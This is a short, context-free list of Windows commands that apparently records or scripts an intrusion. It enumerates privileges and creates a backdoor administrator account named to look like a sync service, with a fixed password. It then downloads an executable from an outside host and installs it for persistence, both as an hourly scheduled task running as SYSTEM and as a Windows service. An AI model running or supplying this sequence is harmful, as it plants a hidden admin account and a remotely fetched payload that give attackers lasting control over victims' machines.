whoami /all
net user svc-sync Sp-7fQ2w9xL! /add
net localgroup administrators svc-sync /add
curl.exe -s -o C:\ProgramData\sync\winsync.exe https://files.northgate.example/winsync.exe
cmd /c "schtasks /create /tn WinSync /sc hourly /ru SYSTEM /tr C:\ProgramData\sync\winsync.exe"
New-Service -Name WinSyncSvc -BinaryPathName C:\ProgramData\sync\winsync.exe
